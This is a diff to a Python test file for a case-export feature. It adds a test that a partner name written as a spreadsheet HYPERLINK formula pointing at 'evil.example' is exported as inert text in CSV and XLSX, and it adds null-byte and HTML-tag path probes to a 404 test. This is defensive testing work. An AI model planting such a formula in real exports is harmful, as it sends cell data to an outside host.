@@ -74,6 +74,23 @@ def test_xlsx_opens_with_openpyxl(cases, manager_client):
     assert "杭州星河代运营有限公司" in values and cases["handover"].reference in values
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(manager_client, staff_user):
+    case = make_case(stage=Stage.NOTICE, owner=staff_user, partner=PartnerFactory(name=FORMULA))
+    _header, *rows = _csv_rows(manager_client.get(reverse("terminations:case_export_csv")))
+    assert rows[0][0] == case.reference
+    assert "'" + FORMULA in rows[0]
+    assert FORMULA not in rows[0]
+
+    response = manager_client.get(reverse("terminations:case_export_xlsx"))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert not [cell for cell in cells if cell.data_type == "f"]
+    assert "'" + FORMULA in [cell.value for cell in cells]
+
+
 def test_bundle_contains_index_timeline_and_letters(cases, viewer_client):
     case = cases["notice"]
     CaseEvent.objects.create(
@@ -104,9 +121,12 @@ def test_bundle_contains_index_timeline_and_letters(cases, viewer_client):
     assert case.reference in index
 
 
-@pytest.mark.parametrize("reference", ["T-0000-00000", "T-\x00"])
-def test_bundle_of_an_unknown_case_is_404(manager_client, reference):
-    response = manager_client.get(reverse("terminations:case_bundle", args=[reference]))
+@pytest.mark.parametrize(
+    "url",
+    ["/cases/T-0000-00000/bundle.zip", "/cases/T-%00/bundle.zip", "/cases/%3Cb%3E/bundle.zip"],
+)
+def test_bundle_of_an_unknown_case_is_404(manager_client, url):
+    response = manager_client.get(url)
     assert response.status_code == 404
 
 
